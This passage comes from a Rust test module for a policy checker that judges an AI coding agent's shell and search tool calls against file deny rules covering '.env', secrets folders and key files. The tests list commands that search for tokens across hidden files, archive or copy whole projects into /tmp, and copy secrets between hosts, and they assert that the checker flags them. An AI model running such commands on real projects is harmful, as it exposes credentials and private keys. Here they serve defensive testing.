                "cp secrets.md /tmp",
                "scp -r host:secrets dst",
            ] {
                assert_eq!(
                    bash_under(policy, line).0,
                    NoPolicy,
                    "{line} under {policy}"
                );
            }
        }
        // `.env`, named without `/`, is the project's own: reached from the project's folder,
        // not from each folder in it; ripgrep skips it unless told to go into hidden files.
        let env = r#"{"files": {"read": {"deny": [".env"]}}}"#;
        for line in [
            "grep -r TOKEN .",
            "grep -r TOKEN /p",
            "rg --hidden TOKEN .",
            "rg -uu TOKEN .",
            "rg -. TOKEN",
            "ag -u TOKEN .",
            "cp -r . /tmp/x",
            "tar czf /tmp/p.tgz .",
            "cd src && grep -r TOKEN ..",
        ] {
            let line = if line == "rg -. TOKEN" {
                "rg -. TOKEN ."
            } else {
                line
            };
            assert_eq!(
                bash_under(env, line),
                (Violation, Some("files.read.deny")),
                "{line}"
            );
        }
        for line in [
            "rg TOKEN .",
            "rg -u TOKEN .",
            "ag TOKEN .",
            "grep -r TOKEN src",
        ] {
            assert_eq!(bash_under(env, line).0, NoPolicy, "{line}");
        }
        // `**/.env` says any folder.
        let any = r#"{"files": {"read": {"deny": ["**/.env"]}}}"#;
        assert_eq!(
            bash_under(any, "grep -r TOKEN src"),
            (Violation, Some("files.read.deny"))
        );
        assert_eq!(bash_under(any, "rg TOKEN src").0, NoPolicy);
        // With no policy, a folder read is not taken for reading every sensitive file.
        for line in ["grep -rn TODO .", "cp -r . /tmp/x", "rm -rf build"] {
            assert_eq!(bash_under(r"{}", line).0, NoPolicy, "{line}");
        }
    }

    #[test]
    fn a_file_put_into_a_folder_is_written_there() {
        let policy = super::super::parse_for_test(KEY);
        for line in ["cp /tmp/key.pem secrets/", "mv /tmp/key.pem secrets"] {
            let args = json!({ "command": line });
            let v = check(&policy, &call("Bash", &args), &place());
            assert!(
                v.parts
                    .iter()
                    .any(|p| p.access == Access::Write("secrets/key.pem".into())
                        && p.rule == Some("files.write.deny")),
                "{line}: {:?}",
                v.parts
            );
        }
    }

    #[test]
    fn a_folder_read_is_said_as_everything_in_it() {
        let policy = super::super::parse_for_test(KEY);
        let args = json!({"command": "cp -r secrets /tmp/x"});
        let v = check(&policy, &call("Bash", &args), &place());
        assert_eq!(v.access, Some(Access::Read("secrets/**".into())));
        assert_eq!(v.pattern.as_deref(), Some("secrets/key.pem"));
    }

    #[test]
    fn a_search_goes_through_the_folder_it_names() {
        use Status::*;
        let policy = super::super::parse_for_test(KEY);
        let judge = |tool: &str, args: Value| {
            let v = check(&policy, &call(tool, &args), &place());
            (v.status, v.rule)
        };
        let deny = (Violation, Some("files.read.deny"));
        assert_eq!(
            judge("Grep", json!({"pattern": "K", "path": "secrets"})),
            deny
        );
        assert_eq!(
            judge("Grep", json!({"pattern": "K", "path": "/p/secrets/"})),
            deny
        );
        assert_eq!(judge("Grep", json!({"pattern": "K", "path": "/p"})), deny);
        // Hidden files too: Claude Code versions differ on whether its ripgrep gets `--hidden`.
        let env = super::super::parse_for_test(r#"{"files": {"read": {"deny": [".env"]}}}"#);
        for args in [
            json!({"pattern": "K", "path": "/p"}),
            json!({"pattern": "K", "path": "."}),
            json!({"pattern": "K"}),
        ] {
            let v = check(&env, &call("Grep", &args), &place());
            assert_eq!((v.status, v.rule), deny, "{args}");
        }
        let args = json!({"pattern": "K", "path": "src"});
        assert_eq!(check(&env, &call("Grep", &args), &place()).status, NoPolicy);
        // Glob lists names: no content read.
        assert_eq!(
            judge("Glob", json!({"pattern": "*.md", "path": "secrets"})).0,
            NoPolicy
        );
        assert_eq!(
            judge("Grep", json!({"pattern": "K", "path": "src"})).0,
            NoPolicy
        );
        // A search that names no folder and no glob searches the working folder.
        assert_eq!(judge("Grep", json!({"pattern": "K"})), deny);
        // A search's glob is judged at least as a shell's is: `sec*/*.pem` meets `secrets/key.pem`.
        for glob in [
            "sec*/*.pem",
            "*/key.pem",
            "**/key.pem",
            "secrets/*",
            "*.pem",
        ] {
            assert_eq!(
                judge("Grep", json!({"pattern": "K", "glob": glob})),
                deny,
                "{glob}"
            );
        }
        assert_eq!(
            judge("Grep", json!({"pattern": "K", "glob": "src/**/*.rs"})).0,
            NoPolicy
        );
    }

    /// Claude Code's Grep leaves out what its `!` globs name: a deny they cover is not asked
    /// of the project's folder, when the search is of that folder, and (for a glob naming a
    /// path, anchored at the working folder or at the `path` as Claude Code's version has it)
    /// from there.
    #[test]
    fn a_grep_that_leaves_a_deny_out_is_not_denied_by_it() {
        use Status::*;
        let policy =
            super::super::parse_for_test(r#"{"files": {"read": {"deny": ["secrets/**"]}}}"#);
        let judge = |args: Value, place: &Place| check(&policy, &call("Grep", &args), place);
        let below = Place {
            cwd: Some("/p/src".into()),
            roots: vec!["/p".into()],
            launch: Some("/p".into()),
            home: None,
            probe: None,
            read: None,
        };
        let v = judge(json!({"pattern": "K", "glob": "!secrets/**"}), &place());
        assert_eq!((v.status, v.rule), (NoPolicy, None));
        assert_eq!(v.access, Some(Access::Read(".".into())));
        for (args, at) in [
            (
                json!({"pattern": "K", "path": "/p", "glob": "!secrets/**"}),
                place(),
            ),
            (
                json!({"pattern": "K", "path": "/p", "glob": "!secrets"}),
                below.clone(),
            ),
            (
                json!({"pattern": "K", "path": "..", "glob": "!*"}),
                below.clone(),
            ),
        ] {
            assert_eq!(judge(args.clone(), &at).status, NoPolicy, "{args}");
        }
        // Started in the project, then moved by a Bash `cd`: ripgrep still starts there.
        for args in [
            json!({"pattern": "K", "path": "/p", "glob": "!secrets/**"}),
            json!({"pattern": "K", "path": "..", "glob": "!/secrets"}),
        ] {
            assert_eq!(judge(args.clone(), &below).status, NoPolicy, "{args}");
        }
        // Started in `src`: ripgrep reads a glob naming a path from there (up to 2.1.100); and
        // where it started is unknown.
        let started_below = Place {
            launch: Some("/p/src".into()),
            ..below.clone()
        };
        for (args, at) in [
            (
                json!({"pattern": "K", "path": "/p", "glob": "!secrets/**"}),
                started_below.clone(),
            ),
            (
                json!({"pattern": "K", "path": "..", "glob": "!/secrets"}),
                started_below.clone(),
            ),
            (
                json!({"pattern": "K", "glob": "!secrets/**"}),
                Place {
                    launch: None,
                    ..place()
                },
            ),
            (
                json!({"pattern": "K", "path": "/", "glob": "!secrets"}),
                place(),
            ),
            (
                json!({"pattern": "K", "path": "secrets", "glob": "!secrets"}),
                place(),
            ),
            (
                json!({"pattern": "K", "glob": ["!secrets/**", "secrets/k"]}),
                place(),
            ),
        ] {
            let v = judge(args.clone(), &at);
            assert_eq!(
                (v.status, v.rule),
                (Violation, Some("files.read.deny")),
                "{args}"
            );
        }
        // From a folder below the project, `*/key.pem` leaves out `src/x/key.pem`, not the
        // `src/key.pem` that the deny names.
        let policy =
            super::super::parse_for_test(r#"{"files": {"read": {"deny": ["*/key.pem"]}}}"#);
        let args = json!({"pattern": "K", "glob": "!*/key.pem"});
        let v = check(&policy, &call("Grep", &args), &below);
        assert_eq!((v.status, v.rule), (Violation, Some("files.read.deny")));
        let v = check(&policy, &call("Grep", &args), &place());
        assert_eq!(v.status, NoPolicy);
        // A search of the working folder below the project: a glob naming a path is read from
        // where Claude Code started (up to 2.1.100), or from the searched folder (2.1.332), so
        // it counts when the two are the same; a name anywhere counts wherever it started.
        let policy =
            super::super::parse_for_test(r#"{"files": {"read": {"deny": ["src/secrets/**"]}}}"#);
        let searches = [
            json!({"pattern": "K", "glob": "!secrets/**"}),
            json!({"pattern": "K", "path": "/p/src", "glob": "!/secrets"}),
        ];
        for args in &searches {
            let v = check(&policy, &call("Grep", args), &started_below);
            assert_eq!(v.status, NoPolicy, "{args}");
            let v = check(&policy, &call("Grep", args), &below);
            assert_eq!(v.status, Violation, "{args}");
        }
        let args = json!({"pattern": "K", "path": ".", "glob": "!secrets"});
        assert_eq!(
            check(&policy, &call("Grep", &args), &below).status,
            NoPolicy
        );
        for args in [
            json!({"pattern": "K", "glob": "!src/secrets/**"}),
            json!({"pattern": "K", "path": "/p/src/secrets", "glob": "!secrets"}),
            json!({"pattern": "K", "path": "/p", "glob": "!secrets/**"}),
        ] {
            let v = check(&policy, &call("Grep", &args), &below);
            assert_eq!(v.status, Violation, "{args}");
        }
    }

    #[test]
    fn paths() {
        assert_eq!(absolute("a/../b/./c", Some("/p/")), "/p/b/c");
        assert_eq!(absolute("~/x", Some("/p")), "~/x");
        assert_eq!(absolute("secrets/../secrets/k", None), "secrets/k");
        assert_eq!(absolute("./a/./b/../c", None), "a/c");
        assert_eq!(absolute("../x", None), "../x");
        assert_eq!(absolute("a/..", None), ".");
        assert_eq!(below("/p/src/a", "/p"), Some("src/a".into()));
        assert_eq!(below("/pq/a", "/p"), None);
    }
}
